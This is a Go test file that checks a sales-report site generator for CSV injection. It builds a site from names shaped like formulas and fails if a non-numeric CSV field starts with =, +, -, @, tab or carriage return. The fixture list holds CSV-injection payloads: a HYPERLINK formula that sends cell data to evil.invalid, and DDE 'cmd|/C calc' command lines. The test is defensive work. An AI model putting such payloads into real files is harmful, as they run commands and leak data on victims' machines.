package safety

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"strconv"
	"strings"
	"testing"

	"github.com/salesreview/salesreview/report"
	"github.com/salesreview/salesreview/report/site"
)

// formulaNames are names a spreadsheet would run as formulas if a CSV
// handed them over as they are ("CSV injection").
var formulaNames = []string{
	`=HYPERLINK("http://evil.invalid/?"&A1,"Click")`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
}

// TestSiteCSVNoFormulas builds a site whose names start like spreadsheet
// formulas and checks every CSV file of the site: a field that is not a
// number must not start with =, +, -, @, tab or carriage return (managers
// open these files in Excel from the page's links).
func TestSiteCSVNoFormulas(t *testing.T) {
	n := formulaNames
	rev, err := report.Compute(namedRecords(n[0], n[1], n[2], n[3], n[4], n[5]), nil, report.Options{})
	if err != nil {
		t.Fatal(err)
	}
	made, err := site.Render(rev, site.Options{Templates: templatesFS(t), BuildDate: "2024-07-01"})
	if err != nil {
		t.Fatal(err)
	}
	files := made.Files
	var bad []string
	csvs := 0
	for _, f := range files {
		if !strings.HasSuffix(f.Path, ".csv") {
			continue
		}
		csvs++
		r := csv.NewReader(bytes.NewReader(f.Data))
		r.FieldsPerRecord = -1
		rows, err := r.ReadAll()
		if err != nil {
			t.Errorf("%s: %v", f.Path, err)
			continue
		}
		for i, row := range rows {
			for j, field := range row {
				if field == "" || !strings.ContainsRune("=+-@\t\r", rune(field[0])) {
					continue
				}
				if _, err := strconv.ParseFloat(field, 64); err == nil {
					continue
				}
				bad = append(bad, fmt.Sprintf("%s: row %d, field %d: %q would run as a spreadsheet formula", f.Path, i+1, j+1, field))
			}
		}
	}
	if csvs == 0 {
		t.Fatal("the site has no CSV files")
	}
	for _, b := range bad {
		t.Error(b)
	}
}
